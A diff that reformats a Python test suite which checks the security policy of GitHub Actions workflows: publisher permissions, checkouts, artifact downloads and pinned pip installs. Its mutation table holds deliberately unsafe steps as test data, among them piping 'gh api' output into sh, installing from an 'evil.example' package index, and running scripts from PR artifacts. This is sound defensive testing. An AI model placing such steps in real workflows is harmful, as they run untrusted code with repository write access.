@@ -45,12 +45,15 @@ GPU_LABEL = "mi355x"
 FORK_APPROVAL_ENVIRONMENT = "gpu-fork-pr"
 # The jobs allowed a write scope: they push the asv history to the results branch, each its own
 # machine folder (the GPU runner's timings; the compile-only counts, computed on GitHub's runner).
-WRITERS = {("history.yml", "history-gfx950"): {"contents": "write"}, ("history.yml", "history-compile"): {"contents": "write"},
-           # Deploys the published history to GitHub Pages (issue 27); it checks out and runs nothing of the repository.
-           ("history.yml", "site-deploy"): {"pages": "write", "id-token": "write"},
-           # The publishers (issue 30): the PR comment, and the issues for regressions on main.
-           ("pr-comment.yml", "post"): {"pull-requests": "write", "statuses": "write"},
-           ("regression-issues.yml", "file"): {"issues": "write"}}
+WRITERS = {
+    ("history.yml", "history-gfx950"): {"contents": "write"},
+    ("history.yml", "history-compile"): {"contents": "write"},
+    # Deploys the published history to GitHub Pages (issue 27); it checks out and runs nothing of the repository.
+    ("history.yml", "site-deploy"): {"pages": "write", "id-token": "write"},
+    # The publishers (issue 30): the PR comment, and the issues for regressions on main.
+    ("pr-comment.yml", "post"): {"pull-requests": "write", "statuses": "write"},
+    ("regression-issues.yml", "file"): {"issues": "write"},
+}
 # Workflows triggered by `workflow_run` (the base repository's token after a run a PR may have
 # triggered): only these, and each must pass publisher_problems.
 PUBLISHERS = {"pr-comment.yml", "regression-issues.yml"}
@@ -233,8 +236,10 @@ def pip_install_problems(command: str) -> list[str]:
     packages = [w for w in words[4:] if w not in options]
     problems = []
     if sorted(options) != sorted(PIP_INSTALL_OPTIONS):
-        problems.append(f"pip install with {options}: only {' '.join(PIP_INSTALL_OPTIONS)} (wheels, no dependencies, "
-                        "this checkout's pins)")
+        problems.append(
+            f"pip install with {options}: only {' '.join(PIP_INSTALL_OPTIONS)} (wheels, no dependencies, "
+            "this checkout's pins)"
+        )
     unpinned = [p for p in packages if p.lower() not in pinned_packages()]
     if unpinned or not packages:
         problems.append(f"pip install of {unpinned or 'nothing'}: not pinned (==) in {CONSTRAINTS}")
@@ -250,8 +255,10 @@ def command_problems(command: str) -> list[str]:
     if VENV_PYTHON.match(command):
         rest = VENV_PYTHON.sub("", command)
         return [] if rest.startswith("-m ci.notify ") else pip_install_problems(command)
-    return [f"runs {command[:80]!r}: a publisher runs only {' / '.join(c.strip() for c in PUBLISHER_COMMANDS)}, "
-            "a venv under $RUNNER_TEMP and its pinned pip install, one command a line"]
+    return [
+        f"runs {command[:80]!r}: a publisher runs only {' / '.join(c.strip() for c in PUBLISHER_COMMANDS)}, "
+        "a venv under $RUNNER_TEMP and its pinned pip install, one command a line"
+    ]
 
 
 def publisher_problems(path: Path, writers: dict = WRITERS) -> list[str]:
@@ -260,13 +267,19 @@ def publisher_problems(path: Path, writers: dict = WRITERS) -> list[str]:
     problems = []
     if _triggers(workflow) != {"workflow_run"}:
         problems.append(f"triggers {sorted(_triggers(workflow))}: a publisher is triggered by workflow_run alone")
-    watched = (workflow["on"].get("workflow_run") or {}).get("workflows", []) if isinstance(workflow["on"], dict) else []
+    watched = (
+        (workflow["on"].get("workflow_run") or {}).get("workflows", []) if isinstance(workflow["on"], dict) else []
+    )
     for job_id, job in workflow.get("jobs", {}).items():
         scopes = job.get("permissions", {})
         if not isinstance(scopes, dict):
             problems.append(f"{job_id}: permissions {scopes!r}: name each scope")
             scopes = {}
-        allowed = {**PUBLISHER_READS, **PUBLISHER_EXTRA_READS.get((path.name, job_id), {}), **writers.get((path.name, job_id), {})}
+        allowed = {
+            **PUBLISHER_READS,
+            **PUBLISHER_EXTRA_READS.get((path.name, job_id), {}),
+            **writers.get((path.name, job_id), {}),
+        }
         extra = {k: v for k, v in scopes.items() if allowed.get(k) != v}
         if extra:
             problems.append(f"{job_id}: permissions {extra} beyond {allowed}")
@@ -276,17 +289,23 @@ def publisher_problems(path: Path, writers: dict = WRITERS) -> list[str]:
             name = step.get("name") or uses or "a run step"
             if uses.startswith("actions/checkout@"):
                 if {"ref", "repository"} & set(args):
-                    problems.append(f"{job_id}: {name}: checks out {args.get('repository', '')}@{args.get('ref', '')}, "
-                                    "not this repository's default branch: that could be the PR's code")
+                    problems.append(
+                        f"{job_id}: {name}: checks out {args.get('repository', '')}@{args.get('ref', '')}, "
+                        "not this repository's default branch: that could be the PR's code"
+                    )
                 if args.get("persist-credentials") is not False:
                     problems.append(f"{job_id}: {name}: persist-credentials must be false")
             elif uses.startswith("actions/download-artifact@"):
                 if not str(args.get("path", "")).startswith("${{ runner.temp }}"):
-                    problems.append(f"{job_id}: {name}: downloads into {args.get('path', 'the workspace')!r}, "
-                                    "not under ${{ runner.temp }}: outside the checkout, nothing in it can be imported")
+                    problems.append(
+                        f"{job_id}: {name}: downloads into {args.get('path', 'the workspace')!r}, "
+                        "not under ${{ runner.temp }}: outside the checkout, nothing in it can be imported"
+                    )
                 if "run-id" in args and "pr-checks" in watched and writes:
-                    problems.append(f"{job_id}: reads a pull request run's artifacts while holding {sorted(writes)}: "
-                                    "render in a job without write scope")
+                    problems.append(
+                        f"{job_id}: reads a pull request run's artifacts while holding {sorted(writes)}: "
+                        "render in a job without write scope"
+                    )
             elif uses and not uses.startswith(("actions/upload-artifact@",)):
                 problems.append(f"{job_id}: {name}: uses {uses}: a publisher runs no other action")
             env = {**(workflow.get("env") or {}), **(job.get("env") or {}), **(step.get("env") or {})}
@@ -403,12 +422,14 @@ def test_the_gpu_job_reads_the_output_the_changes_command_writes(tmp_path):
 
     jobs = _load(PR_CHECKS)["jobs"]
     condition = jobs[GPU_JOB]["if"]
-    (need, job_output), = re.findall(r"needs\.([\w-]+)\.outputs\.([\w-]+) == 'true'", condition)
+    ((need, job_output),) = re.findall(r"needs\.([\w-]+)\.outputs\.([\w-]+) == 'true'", condition)
     assert need in jobs[GPU_JOB]["needs"]
     # The job's output comes from one step's output, and that step runs the command with --github-output.
-    (step_id, step_output), = re.findall(r"steps\.([\w-]+)\.outputs\.([\w-]+)", jobs[need]["outputs"][job_output])
+    ((step_id, step_output),) = re.findall(r"steps\.([\w-]+)\.outputs\.([\w-]+)", jobs[need]["outputs"][job_output])
     (step,) = [s for s in jobs[need]["steps"] if s.get("id") == step_id]
-    assert "ci.speed.changes" in step["run"] and "--github-output" in step["run"] and "--json changes.json" in step["run"]
+    assert (
+        "ci.speed.changes" in step["run"] and "--github-output" in step["run"] and "--json changes.json" in step["run"]
+    )
     # What the command's writer puts into $GITHUB_OUTPUT, for both decisions.
     for gpu_needed, value in ((False, "false"), (True, "true")):
         out = tmp_path / f"github-output-{value}"
@@ -425,7 +446,10 @@ def test_the_gpu_job_reads_the_output_the_changes_command_writes(tmp_path):
 def _collected(*args: str) -> set[str]:
     done = subprocess.run(
         [sys.executable, "-m", "pytest", "--collect-only", "-q", "-p", "no:cacheprovider", *args],
-        cwd=PROJECT, capture_output=True, text=True, timeout=600,
+        cwd=PROJECT,
+        capture_output=True,
+        text=True,
+        timeout=600,
     )
     assert done.returncode == 0, done.stdout[-2000:] + done.stderr[-2000:]
     return {line for line in done.stdout.splitlines() if "::" in line}
@@ -472,8 +496,14 @@ def publishing_problems(workflow: dict[str, Any]) -> list[str]:
             problems.append(f"{job_id}: the GPU runner's main job publishes (no --no-publish)")
         if GPU_LABEL in _labels(job) and "ci.history.publish" in runs:
             problems.append(f"{job_id}: the site is built on the GPU runner")
-    builders = [j for j, job in jobs.items() if any("ci.history.publish" in str(s.get("run", "")) for s in job.get("steps", []))]
-    deployers = [j for j, job in jobs.items() if any(str(s.get("uses", "")).startswith("actions/deploy-pages@") for s in job.get("steps", []))]
+    builders = [
+        j for j, job in jobs.items() if any("ci.history.publish" in str(s.get("run", "")) for s in job.get("steps", []))
+    ]
+    deployers = [
+        j
+        for j, job in jobs.items()
+        if any(str(s.get("uses", "")).startswith("actions/deploy-pages@") for s in job.get("steps", []))
+    ]
     if not builders or not deployers:
         problems.append(f"no site build ({builders}) or no Pages deployment ({deployers})")
     for job_id in builders:
@@ -505,7 +535,9 @@ def test_the_publishing_rules_catch_each_fault():
 
     good = _load(HISTORY)
     cases = {
-        "publishes": lambda w: w["jobs"]["history-gfx950"]["steps"][-1].update(run="python -m ci.history --commits 1 --tracks gpu"),
+        "publishes": lambda w: w["jobs"]["history-gfx950"]["steps"][-1].update(
+            run="python -m ci.history --commits 1 --tracks gpu"
+        ),
         "builds with write": lambda w: w["jobs"]["site-build"].update(permissions={"contents": "write"}),
         "deploys with more": lambda w: w["jobs"]["site-deploy"]["permissions"].update(contents="write"),
         "checks out": lambda w: w["jobs"]["site-deploy"]["steps"].insert(0, {"uses": "actions/checkout@abc"}),
@@ -515,7 +547,6 @@ def test_the_publishing_rules_catch_each_fault():
         bad = copy.deepcopy(good)
         fault(bad)
         assert publishing_problems(bad), f"the rules let a workflow that {name} pass"
-
 
 
 # ---------------------------------------------------------------------------
@@ -538,71 +569,142 @@ def _step(job: dict, uses_prefix: str) -> dict:
 
 PUBLISHER_MUTATIONS = {
     "checks out the PR's head commit": (
-        "pr-comment.yml", lambda w: _step(w["jobs"]["render"], "actions/checkout@")["with"].update(
-            ref="${{ github.event.workflow_run.head_sha }}"), "checks out"),
+        "pr-comment.yml",
+        lambda w: _step(w["jobs"]["render"], "actions/checkout@")["with"].update(
+            ref="${{ github.event.workflow_run.head_sha }}"
+        ),
+        "checks out",
+    ),
     "checks out the PR's head repository": (
-        "pr-comment.yml", lambda w: _step(w["jobs"]["post"], "actions/checkout@")["with"].update(
-            repository="${{ github.event.workflow_run.head_repository.full_name }}"), "checks out"),
+        "pr-comment.yml",
+        lambda w: _step(w["jobs"]["post"], "actions/checkout@")["with"].update(
+            repository="${{ github.event.workflow_run.head_repository.full_name }}"
+        ),
+        "checks out",
+    ),
     "runs a script from the artifact": (
-        "pr-comment.yml", lambda w: w["jobs"]["render"]["steps"].append(
-            {"name": "x", "run": 'bash "$RUNNER_TEMP/pr-artifacts/speed-gate-attempt1/report.sh"'}), "runs 'bash"),
+        "pr-comment.yml",
+        lambda w: w["jobs"]["render"]["steps"].append(
+            {"name": "x", "run": 'bash "$RUNNER_TEMP/pr-artifacts/speed-gate-attempt1/report.sh"'}
+        ),
+        "runs 'bash",
+    ),
     "runs python on a file from the artifact": (
-        "pr-comment.yml", lambda w: w["jobs"]["render"]["steps"].append(
-            {"name": "x", "run": 'python3 -m ci.notify --help\npython3 "$RUNNER_TEMP/pr-artifacts/x.py"'}),
-        "runs 'python3 \"$RUNNER_TEMP/pr-artifacts/x.py\"'"),
+        "pr-comment.yml",
+        lambda w: w["jobs"]["render"]["steps"].append(
+            {"name": "x", "run": 'python3 -m ci.notify --help\npython3 "$RUNNER_TEMP/pr-artifacts/x.py"'}
+        ),
+        "runs 'python3 \"$RUNNER_TEMP/pr-artifacts/x.py\"'",
+    ),
     "chains a command after ci.notify": (
-        "pr-comment.yml", lambda w: w["jobs"]["post"]["steps"][-1].update(
-            run=w["jobs"]["post"]["steps"][-1]["run"] + ' && sh "$RUNNER_TEMP/comment/x.sh"'), "one command a line"),
+        "pr-comment.yml",
+        lambda w: w["jobs"]["post"]["steps"][-1].update(
+            run=w["jobs"]["post"]["steps"][-1]["run"] + ' && sh "$RUNNER_TEMP/comment/x.sh"'
+        ),
+        "one command a line",
+    ),
     "pipes gh into a shell": (
-        "regression-issues.yml", lambda w: w["jobs"]["file"]["steps"].append(
-            {"name": "x", "run": "gh api repos/o/r/contents/x | sh"}), "one command a line"),
+        "regression-issues.yml",
+        lambda w: w["jobs"]["file"]["steps"].append({"name": "x", "run": "gh api repos/o/r/contents/x | sh"}),
+        "one command a line",
+    ),
     "installs a package": (
-        "regression-issues.yml", lambda w: w["jobs"]["file"]["steps"].insert(1, {"name": "x", "run": "pip install pygithub"}),
-        "runs 'pip install"),
+        "regression-issues.yml",
+        lambda w: w["jobs"]["file"]["steps"].insert(1, {"name": "x", "run": "pip install pygithub"}),
+        "runs 'pip install",
+    ),
     "puts the artifact on the import path": (
-        "pr-comment.yml", lambda w: w["jobs"]["render"]["steps"][-2].setdefault("env", {}).update(
-            PYTHONPATH="${{ runner.temp }}/pr-artifacts"), "sets PYTHONPATH"),
+        "pr-comment.yml",
+        lambda w: (
+            w["jobs"]["render"]["steps"][-2].setdefault("env", {}).update(PYTHONPATH="${{ runner.temp }}/pr-artifacts")
+        ),
+        "sets PYTHONPATH",
+    ),
     "downloads into the checkout": (
-        "pr-comment.yml", lambda w: _step(w["jobs"]["render"], "actions/download-artifact@")["with"].update(path="pr-artifacts"),
-        "not under ${{ runner.temp }}"),
+        "pr-comment.yml",
+        lambda w: _step(w["jobs"]["render"], "actions/download-artifact@")["with"].update(path="pr-artifacts"),
+        "not under ${{ runner.temp }}",
+    ),
     "the posting job can push": (
-        "pr-comment.yml", lambda w: w["jobs"]["post"]["permissions"].update(contents="write"), "post: write permission"),
+        "pr-comment.yml",
+        lambda w: w["jobs"]["post"]["permissions"].update(contents="write"),
+        "post: write permission",
+    ),
     "the job reading the PR's artifacts can write": (
-        "pr-comment.yml", lambda w: w["jobs"]["render"]["permissions"].update({"pull-requests": "write"}),
-        "reads a pull request run's artifacts while holding ['pull-requests']"),
+        "pr-comment.yml",
+        lambda w: w["jobs"]["render"]["permissions"].update({"pull-requests": "write"}),
+        "reads a pull request run's artifacts while holding ['pull-requests']",
+    ),
     "the issue job asks for pull requests too": (
-        "regression-issues.yml", lambda w: w["jobs"]["file"]["permissions"].update({"pull-requests": "write"}),
-        "file: permissions {'pull-requests': 'write'}"),
-    "write-all": ("regression-issues.yml", lambda w: w["jobs"]["file"].update(permissions="write-all"), "name each scope"),
+        "regression-issues.yml",
+        lambda w: w["jobs"]["file"]["permissions"].update({"pull-requests": "write"}),
+        "file: permissions {'pull-requests': 'write'}",
+    ),
+    "write-all": (
+        "regression-issues.yml",
+        lambda w: w["jobs"]["file"].update(permissions="write-all"),
+        "name each scope",
+    ),
     "runs another action": (
-        "pr-comment.yml", lambda w: w["jobs"]["post"]["steps"].insert(1, {"uses": "actions/setup-python@0000000000000000000000000000000000000000"}),
-        "a publisher runs no other action"),
+        "pr-comment.yml",
+        lambda w: w["jobs"]["post"]["steps"].insert(
+            1, {"uses": "actions/setup-python@0000000000000000000000000000000000000000"}
+        ),
+        "a publisher runs no other action",
+    ),
     "also runs on pull_request_target": (
-        "pr-comment.yml", lambda w: w["on"].update(pull_request_target=None), "pull_request_target"),
+        "pr-comment.yml",
+        lambda w: w["on"].update(pull_request_target=None),
+        "pull_request_target",
+    ),
     # The judge (issue 37): the base's gate on the PR's rounds, with only pinned wheels installed.
     "the judge checks out the PR's head commit": (
-        "pr-comment.yml", lambda w: _step(w["jobs"]["judge"], "actions/checkout@")["with"].update(
-            ref="${{ github.event.workflow_run.head_sha }}"), "checks out"),
+        "pr-comment.yml",
+        lambda w: _step(w["jobs"]["judge"], "actions/checkout@")["with"].update(
+            ref="${{ github.event.workflow_run.head_sha }}"
+        ),
+        "checks out",
+    ),
     "the judge can write": (
-        "pr-comment.yml", lambda w: w["jobs"]["judge"]["permissions"].update(statuses="write"),
-        "judge: write permission"),
+        "pr-comment.yml",
+        lambda w: w["jobs"]["judge"]["permissions"].update(statuses="write"),
+        "judge: write permission",
+    ),
     "the renderer can set statuses": (
-        "pr-comment.yml", lambda w: w["jobs"]["render"]["permissions"].update(statuses="write"),
-        "reads a pull request run's artifacts while holding ['statuses']"),
+        "pr-comment.yml",
+        lambda w: w["jobs"]["render"]["permissions"].update(statuses="write"),
+        "reads a pull request run's artifacts while holding ['statuses']",
+    ),
     "the judge installs an unpinned package": (
-        "pr-comment.yml", lambda w: _run_step(w, "judge", "pip install").update(
-            run=_run_step(w, "judge", "pip install")["run"].rstrip() + " requests\n"), "pip install of ['requests']: not pinned"),
+        "pr-comment.yml",
+        lambda w: _run_step(w, "judge", "pip install").update(
+            run=_run_step(w, "judge", "pip install")["run"].rstrip() + " requests\n"
+        ),
+        "pip install of ['requests']: not pinned",
+    ),
     "the judge lets pip build from source": (
-        "pr-comment.yml", lambda w: _run_step(w, "judge", "pip install").update(
-            run=_run_step(w, "judge", "pip install")["run"].replace(" --only-binary=:all:", "")), "pip install with"),
+        "pr-comment.yml",
+        lambda w: _run_step(w, "judge", "pip install").update(
+            run=_run_step(w, "judge", "pip install")["run"].replace(" --only-binary=:all:", "")
+        ),
+        "pip install with",
+    ),
     "the judge installs from another index": (
-        "pr-comment.yml", lambda w: _run_step(w, "judge", "pip install").update(
+        "pr-comment.yml",
+        lambda w: _run_step(w, "judge", "pip install").update(
             run=_run_step(w, "judge", "pip install")["run"].replace(
-                "--no-deps", "--no-deps --index-url https://evil.example/simple")), "pip install with"),
+                "--no-deps", "--no-deps --index-url https://evil.example/simple"
+            )
+        ),
+        "pip install with",
+    ),
     "the judge's python runs a file from the artifact": (
-        "pr-comment.yml", lambda w: w["jobs"]["judge"]["steps"].append(
-            {"name": "x", "run": '"$RUNNER_TEMP/judge-venv/bin/python" "$RUNNER_TEMP/pr-artifacts/x.py"'}),
-        "a venv's python runs only"),
+        "pr-comment.yml",
+        lambda w: w["jobs"]["judge"]["steps"].append(
+            {"name": "x", "run": '"$RUNNER_TEMP/judge-venv/bin/python" "$RUNNER_TEMP/pr-artifacts/x.py"'}
+        ),
+        "a venv's python runs only",
+    ),
 }
 
 
@@ -621,4 +723,6 @@ def test_workflow_run_outside_the_publishers_is_refused(tmp_path, bad_workflow):
     data = _load(bad_workflow)
     data["on"] = {"workflow_run": {"workflows": ["pr-checks"], "types": ["completed"]}}
     bad_workflow.write_text(yaml.safe_dump(data))
-    assert any("only ['pr-comment.yml', 'regression-issues.yml'] may use it" in p for p in policy_problems(bad_workflow))
+    assert any(
+        "only ['pr-comment.yml', 'regression-issues.yml'] may use it" in p for p in policy_problems(bad_workflow)
+    )
